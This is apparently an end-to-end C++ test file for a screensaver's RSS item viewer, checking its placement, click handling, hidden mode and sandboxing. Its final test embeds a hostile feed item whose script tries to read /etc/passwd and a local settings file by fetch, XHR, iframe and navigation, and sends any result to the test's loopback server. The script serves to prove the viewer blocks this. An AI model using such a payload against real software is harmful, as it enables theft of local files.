// The item viewer of a real saver file made by saverpack, run with "/s" under Xvfb beside
// the ticker, its feeds served by a loopback server of the test's own.
#include <gtest/gtest.h>

#include <chrono>
#include <cstdio>
#include <optional>

#include "SaverRun.h"
#include "support/FeedServer.h"
#include "support/TempFolder.h"

namespace saver {
namespace {

using test::Eventually;
using test::FeedServer;
using test::SaverRun;

const std::string kFeeds = std::string(SAVER_TEST_DATA) + "/feeds";
constexpr int kTickerRight = 449;  // the ticker at left 12, 437 wide

struct Area {
    int left = 0;
    int top = 0;
    int width = 0;
    int height = 0;
};

// The part of a screenshot right of the ticker and above the status line, where the
// viewer lies.
constexpr Area kViewerSide{kTickerRight + 10, 0, 800 - kTickerRight - 10, 570};

// The smallest area of a screenshot holding every pixel near `colour`; none when there is
// no such pixel.
std::optional<Area> AreaOf(const std::string& shot, const std::string& colour) {
    const std::string geometry = test::CommandOutput(
        "convert " + shot + " -fuzz 5% -fill black +opaque '" + colour + "' -fill white -opaque '" +
        colour + "' -bordercolor black -border 1 -format '%@' info:");
    Area area;
    if (std::sscanf(geometry.c_str(), "%dx%d+%d+%d", &area.width, &area.height, &area.left,
                    &area.top) != 4 ||
        area.width <= 0 || area.height <= 0 || area.width >= 802) {
        return std::nullopt;
    }
    --area.left;  // the border
    --area.top;
    return area;
}

// How many pixels of a screenshot's area are not `colour`.
int PixelsOtherThan(const std::string& shot, const std::string& colour, const Area& area) {
    const std::string output =
        test::CommandOutput("convert " + shot + " -crop " + std::to_string(area.width) + "x" +
                            std::to_string(area.height) + "+" + std::to_string(area.left) + "+" +
                            std::to_string(area.top) + " +repage -fill black -opaque '" + colour +
                            "' -fill white +opaque black -format '%[fx:round(mean*w*h)]' info:");
    return output.empty() ? -1 : std::stoi(output);
}

void ExpectCleanEnd(SaverRun& run) {
    ASSERT_TRUE(run.Ended(10000));
    EXPECT_EQ(run.ExitStatus(), 0);
    EXPECT_EQ(run.WorkingFiles(), std::vector<std::string>{});
}

// A show of a grey page (the plain one unless told) with the ticker over it, fed from
// `server`.
bool StartShow(SaverRun& run, const FeedServer& server, const std::string& feed,
               const std::string& set_lines = "", const std::string& page = "plain.htm") {
    return !server.BaseUrl().empty() &&
           run.StartShow("WebInterval=600\nUseFeed=1\nRandomFeed=0\n" + set_lines +
                             "\n[feeds]\nViewer=" + server.Url(feed) + "\n",
                         {page});
}

// The viewer's page of the template below, once it has fitted itself to its 30 pixels.
std::optional<Area> FittedViewer(SaverRun& run) {
    const std::string shot = run.Folder() + "/shot.png";
    std::optional<Area> viewer;
    Eventually([&] {
        viewer = run.Screenshot(shot) ? AreaOf(shot, "#00FF00") : std::nullopt;
        return viewer && viewer->height == 30;
    });
    return viewer && viewer->height == 30 ? viewer : std::nullopt;
}

void WriteGreenTemplate(SaverRun& run) {
    test::WriteFile(run.Folder() + "/content/rss_template.htm",
                    "<body style=\"margin:0;background:#00FF00\">"
                    "<div style=\"height:30px\">##title##</div></body>");
}

TEST(ViewerEndToEndTest, ItemOpensBesideTheTickerFitsItsPageAndEnterWithoutLinkOpensNothing) {
    SaverRun run;
    FeedServer server(kFeeds);
    WriteGreenTemplate(run);
    ASSERT_TRUE(StartShow(run, server, "viewer/short.xml"));
    const std::optional<Area> viewer = FittedViewer(run);
    ASSERT_TRUE(viewer) << "the viewer, in its page's colour, shrinks to the page's 30 pixels";
    // Fitted to its page the viewer may reach up to the show's right edge (a fit can take
    // the width up to the show's width less a random 0 to 49 pixels).
    EXPECT_GE(viewer->left, kTickerRight + 10);
    EXPECT_LE(viewer->left + viewer->width, 800);
    run.Xdo("key Return");
    ExpectCleanEnd(run);
    EXPECT_EQ(run.Opened(), std::vector<std::string>{});
}

// The ticker and the viewer lie over the page, and clicks on them stay there: the page
// hears only the click beside them.
TEST(ViewerEndToEndTest, ClicksOnTheTickerAndTheViewerNeverReachThePage) {
    SaverRun run;
    FeedServer server(kFeeds);
    WriteGreenTemplate(run);
    ASSERT_TRUE(StartShow(run, server, "viewer/short.xml", "MousePress=0", "clicks.htm"));
    ASSERT_TRUE(run.WaitFor("/after-listening"));
    const std::optional<Area> viewer = FittedViewer(run);
    ASSERT_TRUE(viewer);
    const int viewer_x = viewer->left + viewer->width / 2;
    const int viewer_y = viewer->top + viewer->height / 2;
    run.Xdo("mousemove 200 150 click 1 mousemove " + std::to_string(viewer_x) + " " +
            std::to_string(viewer_y) + " click 1 mousemove 200 450 click 1");
    EXPECT_EQ(run.NextPage(), "/after-click-200-450") << "the first click the page hears";
    EXPECT_FALSE(run.Ended(300)) << "clicks do not end this show";
    run.Xdo("key Escape");
    ExpectCleanEnd(run);
}

// With "BlogShow" 0 the viewer never leaves a pixel on the screen, on no item and at no
// moment of its fades, while Enter still opens the current item's link.
TEST(ViewerEndToEndTest, BlogShowOffKeepsTheViewerInvisibleWhileEnterOpensTheLink) {
    SaverRun run;
    FeedServer server(kFeeds);
    ASSERT_TRUE(StartShow(run, server, "ticker/news.xml", "BlogShow=0\nBlogInterval=2"));
    ASSERT_EQ(server.NextRequest(30000), "/ticker/news.xml");
    const std::string shot = run.Folder() + "/shot.png";
    ASSERT_TRUE(Eventually([&] {
        return run.Screenshot(shot) && SaverRun::PixelColour(shot, 600, 300) == "#808080";
    }));
    // Three items, one every 2 seconds: the first, then two more, each opened and faded.
    const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(8);
    int shots = 0;
    while (std::chrono::steady_clock::now() < end) {
        ASSERT_TRUE(run.Screenshot(shot));
        ASSERT_EQ(PixelsOtherThan(shot, "#808080", kViewerSide), 0) << "shot " << shots;
        ++shots;
    }
    std::printf("%d screenshots of the viewer's side, all of the page\n", shots);
    run.Xdo("key Return");
    ExpectCleanEnd(run);
    // The opener is started detached and may write its record after the show ended.
    Eventually([&] { return !run.Opened().empty(); });
    EXPECT_EQ(run.Opened().size(), 1u);
    EXPECT_TRUE(run.Opened().front().starts_with("http://example.org/")) << run.Opened().front();
}

// The requests the viewer's page made, until one starting with `last` came.
std::vector<std::string> ReportsUntil(FeedServer& server, const std::string& last) {
    std::vector<std::string> requests;
    for (std::string request = server.NextRequest(test::kColdStartMs); !request.empty();
         request = server.NextRequest(test::kColdStartMs)) {
        requests.push_back(request);
        if (request.starts_with(last)) {
            break;
        }
    }
    return requests;
}

TEST(ViewerEndToEndTest, FeedHtmlReadsNoLocalFileOpensNoWindowAndTheShowGoesOn) {
    SaverRun run;
    test::TempFolder feeds;
    FeedServer server(feeds.Path());
    ASSERT_FALSE(server.BaseUrl().empty());
    const std::string report = server.BaseUrl() + "report/";
    // Dialogs and new windows first (a dialog left open would stop the script), then
    // every way to a local file; the second item only says that it was shown.
    const std::string hostile =
        "<a id='l' href='" + report +
        "opened-link' target='_blank'>new</a><script>"
        "var R = '" +
        report +
        "';"
        "function send(tag, text) { new Image().src = R + tag + '?' +"
        " encodeURIComponent(String(text).slice(0, 300)); }"
        "alert('hello'); document.getElementById('l').click();"
        "send('after-dialogs', window.open(R + 'opened-script') === null);"
        "fetch('file:///etc/passwd').then(r => r.text()).then(t => send('fetch', t),"
        " e => send('refused-fetch', e));"
        "try { var x = new XMLHttpRequest(); x.open('GET', 'settings.ini', false); x.send();"
        " send('xhr', x.responseText); } catch (e) { send('refused-xhr', e); }"
        "var f = document.createElement('iframe'); f.src = 'file:///etc/passwd';"
        "f.onload = () => { try { send('iframe', f.contentDocument.body.innerText); }"
        " catch (e) { send('refused-iframe', e); } };"
        "document.documentElement.appendChild(f);"
        "setTimeout(() => { location = 'file:///etc/passwd'; }, 500);"
        "setTimeout(() => send('still-here', location.href), 1500);"
        "</script>";
    const std::string second = "<img src='" + report + "second-item'>";
    auto escaped = [](const std::string& html) {
        std::string text;
        for (char c : html) {
            text += c == '<' ? "&lt;" : c == '&' ? "&amp;" : std::string(1, c);
        }
        return text;
    };
    test::WriteFile(feeds / "hostile.xml",
                    "<rss><channel><title>Hostile</title><item><title>One</title><description>" +
                        escaped(hostile) + "</description></item><item><title>Two</title>" +
                        "<description>" + escaped(second) + "</description></item>" +
                        "</channel></rss>");
    ASSERT_TRUE(StartShow(run, server, "hostile.xml"));
    const std::vector<std::string> requests = ReportsUntil(server, "/report/still-here");
    ASSERT_FALSE(requests.empty());
    EXPECT_EQ(requests.front(), "/hostile.xml");
    EXPECT_NE(std::find(requests.begin(), requests.end(), "/report/after-dialogs?true"),
              requests.end())
        << "the alert closed itself and the script went on; window.open gave nothing";
    EXPECT_TRUE(requests.back().starts_with("/report/still-here")) << "it stayed on its page";
    for (const std::string& request : requests) {
        EXPECT_EQ(request.find("opened"), std::string::npos) << request;
        EXPECT_EQ(request.find("root%3A"), std::string::npos) << request;
        EXPECT_EQ(request.find("ScrName"), std::string::npos) << request;
    }
    // The viewer goes on: the next item is shown.
    run.Xdo("key Down");
    EXPECT_TRUE(Eventually([&] { return server.NextRequest(100) == "/report/second-item"; }));
    run.Xdo("key Escape");
    ExpectCleanEnd(run);
    EXPECT_EQ(run.Opened(), std::vector<std::string>{});
}

}  // namespace
}  // namespace saver
